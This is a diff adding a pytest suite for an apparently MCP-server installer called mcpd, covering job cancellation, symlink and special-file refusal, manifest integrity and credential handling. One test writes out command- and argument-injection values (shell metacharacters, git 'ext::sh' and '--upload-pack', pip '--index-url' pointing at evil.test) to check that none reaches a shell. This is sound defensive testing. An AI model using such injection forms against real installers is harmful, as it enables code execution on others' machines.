@@ -1,0 +1,244 @@
+# SPDX-License-Identifier: LGPL-2.1-or-later
+"""Ending installations, and entries and projects that would do harm."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import os
+import socket
+from typing import TYPE_CHECKING, Any
+
+import pytest
+from install_parts import World, local, make_world, project, reach
+
+from mcpd.errors import (
+    AlreadyInstalled,
+    Busy,
+    IntegrityMismatch,
+    InvalidManifest,
+    NotSupported,
+    SourceUnavailable,
+    SystemInstanceOnly,
+)
+from mcpd.install import InstallOptions, JobEvent, JobState
+from mcpd.paths import Scope
+
+if TYPE_CHECKING:
+    from pathlib import Path
+
+REGION = {"key": "region", "label": "Region", "required": True, "type": "string"}
+
+
+@pytest.mark.parametrize(
+    "state", [JobState.PLANNING, JobState.NEEDS_CONFIG, JobState.FETCHING, JobState.BUILDING, JobState.VERIFYING]
+)
+async def test_cancel_in_every_state_leaves_nothing(world: World, tmp_path: Path, state: JobState) -> None:
+    asked = [REGION] if state is JobState.NEEDS_CONFIG else []
+    job = world.begin(local(project(tmp_path / "src"), configurableProperties=asked))
+    world.installer.jobs.subscribe(lambda event: event.job.cancel() if event.job.state is state else None)
+    await job.wait()
+    assert job.state is JobState.CANCELLED
+    assert state in world.states(job)
+    assert JobState.ACTIVATING not in world.states(job)
+    assert world.store.list() == []
+    assert world.left_over() == []
+
+
+async def test_cancel_before_the_first_step(world: World, tmp_path: Path) -> None:
+    job = world.begin(local(project(tmp_path / "src")))
+    job.cancel()
+    await job.wait()
+    assert job.state is JobState.CANCELLED
+
+
+async def test_activation_cannot_be_cancelled(world: World, tmp_path: Path) -> None:
+    refused: list[NotSupported] = []
+
+    def cancel(event: JobEvent) -> None:
+        if event.job.state is JobState.ACTIVATING and not refused:
+            assert not event.job.cancellable
+            with pytest.raises(NotSupported) as caught:
+                event.job.cancel()
+            refused.append(caught.value)
+
+    world.installer.jobs.subscribe(cancel)
+    job = await world.install(local(project(tmp_path / "src")))
+    assert job.state is JobState.DONE
+    assert refused
+
+
+async def test_the_end_of_mcpd_takes_an_unproven_activation_back(world: World, tmp_path: Path) -> None:
+    job = world.begin(local(project(tmp_path / "src"), "silent"))
+    await reach(job, world, JobState.ACTIVATING)
+    await world.installer.close()
+    assert job.state is JobState.CANCELLED
+    assert world.store.list() == []
+    assert world.sessions.list() == []
+
+
+async def test_one_job_per_server(world: World, tmp_path: Path) -> None:
+    document = local(project(tmp_path / "src"))
+    job = world.begin(document)
+    with pytest.raises(Busy, match=f"job {job.number}"):
+        world.begin(document)
+    other = world.begin({**document, "id": "other"})
+    await job.wait()
+    await other.wait()
+    assert job.error is other.error is None
+    with pytest.raises(AlreadyInstalled):
+        world.begin(document)
+
+
+async def test_S23_a_server_for_the_system_is_not_installed_for_a_user(world: World, tmp_path: Path) -> None:
+    with pytest.raises(SystemInstanceOnly, match="--system"):
+        world.begin(local(project(tmp_path / "src"), scope="system"))
+
+
+async def test_what_leads_outside_is_refused(world: World, tmp_path: Path) -> None:
+    source = project(tmp_path / "src")
+    (source / "passwd").symlink_to("/etc/passwd")
+    job = await world.install(local(source))
+    assert isinstance(job.error, InvalidManifest)
+    assert "passwd" in job.error.message
+    (source / "passwd").unlink()
+    (source / "sub").mkdir()
+    (source / "sub/up").symlink_to("../../..")
+    job = await world.install(local(source))
+    assert isinstance(job.error, InvalidManifest)
+    (source / "sub/up").unlink()
+    (source / "sub/fine").symlink_to("../server.py")
+    job = await world.install(local(source))
+    assert job.error is None
+
+
+async def test_special_files_are_refused(world: World, tmp_path: Path) -> None:
+    source = project(tmp_path / "src")
+    os.mkfifo(source / "pipe")
+    job = await world.install(local(source))
+    assert isinstance(job.error, InvalidManifest)
+    (source / "pipe").unlink()
+    with socket.socket(socket.AF_UNIX) as listener:
+        os.chdir(source)
+        listener.bind("socket")
+    job = await world.install(local(source))
+    assert isinstance(job.error, InvalidManifest)
+    assert world.left_over() == []
+
+
+async def test_mcpds_own_files_are_no_source(world: World, tmp_path: Path) -> None:
+    project(tmp_path / "home/data")
+    job = await world.install(local(tmp_path / "home/data"))
+    assert isinstance(job.error, InvalidManifest)
+    assert "own files" in job.error.message
+
+
+async def test_a_source_that_is_not_there_is_named(world: World, tmp_path: Path) -> None:
+    job = await world.install(local(tmp_path / "nowhere"))
+    assert isinstance(job.error, SourceUnavailable)
+    assert "nowhere" in job.error.message
+
+
+@pytest.mark.parametrize(
+    ("transport", "text"),
+    [
+        ({"command": "python3", "args": ["missing.py"]}, "missing.py"),
+        ({"command": "no-such-program"}, "no-such-program"),
+        ({"command": "./run.sh"}, "run.sh"),
+        ({"command": "../../../../usr/bin/env"}, "usr/bin/env"),
+    ],
+)
+async def test_a_command_that_is_not_there_is_named(
+    world: World, tmp_path: Path, transport: dict[str, Any], text: str
+) -> None:
+    job = await world.install(local(project(tmp_path / "src"), transports=[{"type": "stdio", **transport}]))
+    assert isinstance(job.error, InvalidManifest)
+    assert text in job.error.message
+    assert world.left_over() == []
+
+
+async def test_T17_no_field_of_an_entry_reaches_a_shell(world: World, tmp_path: Path) -> None:
+    evil = '"; touch PWNED; "'
+    sources = [
+        {"type": kind, "url": evil, "path": path, "package": evil, "version": evil, "rev": evil}
+        for kind, path in (("git", ""), ("npm", ""), ("pypi", ""), ("local", f"/{evil}"))
+    ]
+    sources += [
+        {"type": "git", "url": (tmp_path / "repo").as_uri(), "rev": evil},
+        {"type": "git", "url": "ext::sh -c touch% PWNED"},
+        {"type": "git", "url": "--upload-pack=touch PWNED"},
+        {"type": "pypi", "package": "fine", "version": evil},
+        {"type": "pypi", "package": "--index-url=http://evil.test"},
+        {"type": "npm", "package": "fine", "version": "git+https://evil.test/x"},
+        {"type": "npm", "package": "../../x"},
+        {"type": "local", "path": f"{tmp_path}/{evil}"},
+    ]
+    words = dict.fromkeys(("name", "summary", "version", "description", "homepage", "icon", "releaseDate"), evil)
+    for source in sources:
+        document = {**local(tmp_path), **words, "source": source, "transports": [{"type": "stdio", "command": evil}]}
+        try:
+            job = world.begin(document)
+        except InvalidManifest:
+            continue
+        await job.wait()
+        assert job.state is JobState.FAILED
+    project(tmp_path / "src")
+    arguments = [{"type": "stdio", "command": "python3", "args": ["server.py", evil, "$(touch PWNED)"]}]
+    job = await world.install(local(tmp_path / "src", **words, transports=arguments))
+    assert job.error is None
+    assert not list(tmp_path.rglob("PWNED"))
+    assert not os.path.lexists("PWNED")
+
+
+async def test_a_registry_on_the_network_cannot_name_local_files(world: World, tmp_path: Path) -> None:
+    world.shelf.origin = "https://registry.test/list.json"
+    source = project(tmp_path / "src")
+    for kind in ({"type": "local", "path": str(source)}, {"type": "git", "url": source.as_uri()}):
+        world.shelf.put(local(source, source=kind))
+        with pytest.raises(InvalidManifest, match="files of this machine"):
+            world.installer.install("org.test.hello", InstallOptions(), os.getuid())
+
+
+async def test_a_summary_is_completed_from_its_manifest(world: World, tmp_path: Path) -> None:
+    whole = tmp_path / "whole.json"
+    whole.write_text(json.dumps(local(project(tmp_path / "src"))))
+    digest = hashlib.sha256(whole.read_bytes()).hexdigest()
+    summary = {"id": "org.test.hello", "name": "Hello", "version": "1.0", "manifest": whole.as_uri()}
+    world.shelf.put({**summary, "integrity": {"manifestSha256": "0" * 64}})
+    job = world.installer.install("org.test.hello", InstallOptions(), os.getuid())
+    await job.wait()
+    assert isinstance(job.error, IntegrityMismatch)
+    world.shelf.put({**summary, "integrity": {"manifestSha256": digest}})
+    job = world.installer.install("org.test.hello", InstallOptions(), os.getuid())
+    await job.wait()
+    assert job.error is None
+    assert world.installer.updates() == {}
+    world.shelf.put({**summary, "id": "other"})
+    job = world.installer.install("other", InstallOptions(), os.getuid())
+    await job.wait()
+    assert isinstance(job.error, InvalidManifest)
+    assert "org.test.hello" in job.error.message
+
+
+async def test_credentials_of_a_source_are_not_kept(world: World, tmp_path: Path) -> None:
+    remote = {"type": "sse", "url": "https://mcp.test/sse"}
+    source = {"type": "git", "url": "https://user:secret@h.test/x.git"}
+    job = await world.install({"id": "remote", "name": "R", "transports": [remote], "source": source})
+    assert job.error is None
+    for file in world.store.get("remote").generation.iterdir():
+        assert "secret" not in file.read_text()
+
+
+async def test_the_system_scope_is_readable_for_the_account_that_runs_it(tmp_path: Path) -> None:
+    source = project(tmp_path / "src", {"private.txt": "x"})
+    (source / "private.txt").chmod(0o600)
+    old = os.umask(0o077)
+    try:
+        async with make_world(Scope.SYSTEM) as world:
+            job = await world.install(local(source, scope="system"))
+            assert job.error is None
+            generation = world.store.get("org.test.hello").generation
+            assert generation.is_relative_to(tmp_path / "system")
+            assert all(path.stat().st_mode & 0o444 == 0o444 for path in generation.rglob("*"))
+    finally:
+        os.umask(old)
